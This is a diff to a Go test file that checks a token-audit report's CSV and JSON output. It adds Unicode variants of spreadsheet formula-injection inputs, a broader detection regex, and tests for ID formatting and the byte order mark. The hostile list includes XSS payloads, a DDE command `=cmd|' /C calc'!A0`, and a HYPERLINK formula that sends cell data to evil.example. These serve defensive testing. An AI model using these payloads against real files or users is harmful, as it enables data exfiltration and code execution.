@@ -100,7 +100,7 @@ var hostile = []string{
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `</title></style></script><script>alert(1)</script>`,
 	`</td></tr></table><h1>x`, `{{.Token}}`, `javascript:alert(1)`, `<!--`, `]]>`, "a\x00b", "a\u202eexe.txt", "a\xff", "<svg/onload=alert(1)>",
 	`=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, `x;=1+1`, `x,=1+1`, "x\t=1+1", `x";=1+1;"`, `"=1+1`, `'=1+1`, `＝1+1`, `x|@SUM(1)`,
-	"x\u2028=1+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
+	"x\u2028=1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff=1+1", "\v=1+1", "\u0085=1+1", "\u009f@SUM(1)", " \t\r =1+1", "x;\u00a0=1+1", "﹦1+1", "\u22121+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
 }
 
 // hostileReport has each hostile text in every place that an owner can write to.
@@ -124,7 +124,7 @@ func TestHostileNamesInCSV(t *testing.T) {
 	require.NoError(t, err)
 	require.Len(t, records, 1+2*len(hostile))
 	require.Equal(t, 1+2*len(hostile), strings.Count(out, "\n"), "a line for each finding")
-	formula := regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)
+	formula := regexp.MustCompile(`^[\s\pZ\p{Cf}"]*[=+\-@＝＋－＠﹢﹣﹦﹫−]`)
 	for _, record := range records {
 		for _, cell := range record {
 			assert.NotRegexp(t, formula, cell)
@@ -137,6 +137,37 @@ func TestHostileNamesInCSV(t *testing.T) {
 	}
 	assert.Contains(t, out, `'=cmd|' /C calc'!A0`)
 	assert.NotRegexp(t, `[\x00-\x09\x0b-\x1f]`, out)
+}
+
+// TestIDsInCSVAreNoNumbers: a spreadsheet would keep 15 digits of them. bearer_seconds stays a number, a time a time.
+func TestIDsInCSVAreNoNumbers(t *testing.T) {
+	for text, want := range map[string]string{
+		"12345678901234567890123456789012": "'12345678901234567890123456789012",
+		"123456789012":                     "'123456789012",
+		"123456789e10":                     "'123456789e10",
+		"2E5":                              "'2E5",
+		"1.5e+300":                         "'1.5e+300",
+		"007":                              "'007",
+		" 007 ":                            "' 007 ",
+		"12345678901":                      "12345678901",
+		"0":                                "0",
+		"900":                              "900",
+		"2c9180867817ac4d017817c491119a20": "2c9180867817ac4d017817c491119a20",
+		"1e10a":                            "1e10a",
+		"v1.5":                             "v1.5",
+	} {
+		r := &lifecycle.Report{At: at, Findings: []lifecycle.Finding{{Token: sailpoint.PersonalAccessToken{
+			ID: text, Name: text, Owner: sailpoint.PersonalAccessTokenOwner{ID: text, Name: text}, Scope: []string{text}, AccessTokenValiditySeconds: 43200,
+		}}}}
+		records, err := csv.NewReader(strings.NewReader(write(t, report.WriteCSV, r))).ReadAll()
+		require.NoError(t, err)
+		assert.Equal(t, []string{"", "", want, want, want, want, "", "", "", want, "43200"}, records[1], text)
+	}
+}
+
+// TestCSVHasNoByteOrderMark: most programs would take it for a part of the first title.
+func TestCSVHasNoByteOrderMark(t *testing.T) {
+	assert.True(t, strings.HasPrefix(write(t, report.WriteCSV, small()), "kind,"))
 }
 
 func TestHostileNamesInJSON(t *testing.T) {
